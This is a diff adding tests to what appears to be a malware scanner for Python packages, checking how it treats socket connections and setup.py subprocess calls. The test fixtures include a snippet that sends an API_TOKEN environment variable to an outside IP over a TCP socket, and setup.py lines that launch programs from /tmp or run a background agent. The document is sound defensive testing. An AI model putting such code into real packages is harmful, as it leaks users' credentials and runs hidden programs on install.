@@ -2471,3 +2471,53 @@ def save_and_run(task, folder):
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/task.py": runner})
     drop = found(result, "intent.drop-payload")
     assert drop and "handed" in drop[0].message
+
+
+# -- a UNIX socket is a local process's door, not the network --------------------------------
+
+_IPC = """
+import os
+import socket
+
+sock = socket.socket({family}, socket.SOCK_STREAM)
+sock.connect({address})
+sock.sendall(os.environ.get("API_TOKEN", "").encode())
+"""
+
+
+def test_a_unix_socket_from_the_environment_is_local_ipc_not_exfiltration():
+    module = _IPC.format(family="socket.AF_UNIX", address='os.environ["RUNTIME_IPC_PATH"]')
+    result = scan({"setup.py": SETUP, "demo/__init__.py": module})
+    assert not found(result, "intent.exfiltration")
+    assert not found(result, "capability.network")
+    assert result.verdict not in FLAGGED
+
+
+def test_the_same_code_over_an_internet_socket_still_is():
+    module = _IPC.format(family="socket.AF_INET", address='("203.0.113.7", 443)')
+    result = scan({"setup.py": SETUP, "demo/__init__.py": module})
+    assert found(result, "intent.exfiltration")
+    assert result.verdict in FLAGGED
+
+
+# -- a toolchain program named by its system path is a build tool ---------------------------
+
+_FIND_CC = """
+import os
+from setuptools import setup
+
+cc = os.popen("{command}").read().strip()
+setup(name="demo")
+"""
+
+
+def test_a_toolchain_program_in_a_system_folder_is_a_build_command():
+    result = scan({"setup.py": _FIND_CC.format(command="/usr/bin/xcrun -find clang")})
+    assert {f.severity for f in found(result, "capability.process")} == {"low"}
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize("command", ["/tmp/.cache/xcrun -find clang", "/usr/bin/nohup ./agent"])
+def test_a_program_elsewhere_or_not_a_toolchain_is_not(command):
+    result = scan({"setup.py": _FIND_CC.format(command=command)})
+    assert "high" in {f.severity for f in found(result, "capability.process")}
